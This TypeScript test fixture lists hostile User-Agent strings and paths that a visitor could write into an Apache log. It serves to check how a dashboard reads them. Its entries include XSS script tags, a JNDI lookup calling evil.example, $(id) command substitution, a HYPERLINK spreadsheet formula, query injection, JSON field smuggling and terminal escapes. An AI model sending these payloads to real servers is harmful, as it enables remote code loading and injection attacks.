const bytes = (text: string) => Buffer.from(text, 'utf8')

interface Hostile {
  what: string
  userAgent: Buffer
  path?: string
  /** What the dashboard reads as its agent; null where what Apache writes is not JSON. */
  read: string | null
  /** Apache refuses the request and writes - for its agent. */
  refused?: true
}

const ansi = '\u001b[31m'
const same = (what: string, text: string): Hostile => ({ what, userAgent: bytes(text), read: text })
const unreadable = (what: string, text: string | Buffer): Hostile => ({
  what,
  userAgent: typeof text === 'string' ? bytes(text) : text,
  read: null,
})

/** Requests that any visitor can send to a web server, and so write into its log. */
export const hostileRequests: Hostile[] = [
  same('quotes', 'say "hello" \'twice\''),
  same('a backslash', 'C:\\new\\table\\'),
  same('an escape written out', 'a\\x41\\u0041\\n'),
  same('a member of its own', 'x", "status":"200", "evil":"'),
  same('a script', '</script><script>alert(1)</script><img src=x onerror=alert(1)>'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is sent
  same('format strings', '%s%n%x%d ${jndi:ldap://evil.example/a} {{7*7}} $(id) `id`'),
  same('a formula', '=HYPERLINK("https://evil.example";"x")'),
  same('a query', '" | stats count(*) as x # \' or 1=1 --'),
  same('a tab', 'a\tb'),
  same('8,000 bytes', 'x'.repeat(8_000)),
  unreadable('UTF-8', 'Café ☃'),
  unreadable('another direction of writing', 'a\u202egnp.exe'),
  unreadable('bytes that are no UTF-8', Buffer.from([0x61, 0xff, 0xfe, 0x62])),
  unreadable('C1 controls', Buffer.from([0x61, 0x9b, 0x33, 0x31, 0x6d])),
  {
    what: 'a terminal escape in the path',
    path: '/cafe/menu.php/%1b%5b31m',
    userAgent: bytes('plain'),
    read: 'plain',
  },
  {
    what: 'a terminal escape',
    userAgent: bytes(`${ansi}red`),
    read: '-',
    refused: true,
  },
  { what: 'more than Apache takes', userAgent: bytes('x'.repeat(9_000)), read: '-', refused: true },
]
